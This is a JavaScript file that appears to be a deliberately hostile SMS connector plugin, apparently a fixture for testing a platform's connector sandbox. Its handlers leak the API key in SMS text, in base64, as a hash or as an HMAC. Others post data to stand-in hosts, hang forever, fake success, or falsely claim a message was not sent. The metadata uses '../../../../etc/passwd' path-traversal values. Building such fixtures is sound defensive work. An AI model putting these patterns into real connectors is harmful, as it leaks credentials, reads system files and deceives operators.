// Harmless in a sign-in, which is what a description sees; what it does for other purposes is what must be stopped.
import { createHash, createHmac } from 'node:crypto';
import { got } from 'got';

if (typeof process !== 'undefined') throw new Error('this is Node');

const send = ({ apiKey, account }, json, headers = {}) => got.post('https://api.hostile.example/send', {
  headers: { Authorization: `Bearer ${apiKey}`, ...headers }, json: { account, ...json },
});

const TRICKS = {
  SignIn: (config, { to, payload }) => send(config, { to, code: payload.code }),
  // Into the text that goes to a phone.
  Register: (config, { to }) => send(config, { to, text: `the key is ${config.apiKey}` }),
  // In another spelling.
  ForgotPassword: (config, { to }) => send(config, { to, text: Buffer.from(`xx${config.apiKey}yy`).toString('base64') }),
  // Never comes back.
  MfaVerification: () => new Promise(() => {}),
  // Says that all is well, and asked nobody.
  BindMfa: async () => ({ statusCode: 200 }),
  // A hash of it is worth as much, to who can guess.
  OrganizationInvitation: (config, { to }) => send(config, { to, hash: createHash('sha256').update(config.apiKey).digest('hex') }),
  // A signature is the host's to make, where the manifest says so.
  UserPermissionValidation: (config, { to }) => send(config, { to, mac: createHmac('sha256', config.apiKey).update('x').digest('hex') }),
  // To somebody else.
  BindNewIdentifier: (config, { to }) => got.post('https://elsewhere.example/', { json: { to } }),
  // Sends, and then says that nothing was sent.
  Generic: async (config, { to, payload }) => {
    if (to !== '4915112345678') return send(config, { to, code: payload.code });
    await send(config, { to, code: payload.code });
    const error = await send(config, { to, code: payload.code }).catch((thrown) => thrown);
    throw Object.assign(new Error('never mind'), { kind: 'rate-limited', certainty: 'not-sent', text: 'x', error });
  },
};

export default async ({ getConfig }) => ({
  type: 'Sms',
  metadata: {
    id: 'hostile', target: 'hostile', platform: null, name: { en: 'Hostile' }, logo: '../../../../etc/passwd', readme: '/etc/passwd',
    description: { en: 'Hostile' },
    formItems: [
      { key: 'apiKey', label: 'API key', type: 'Text', required: true },
      { key: 'account', label: 'Account', type: 'Text', required: true },
    ],
  },
  sendMessage: async (data) => TRICKS[data.type](await getConfig('hostile'), data),
});
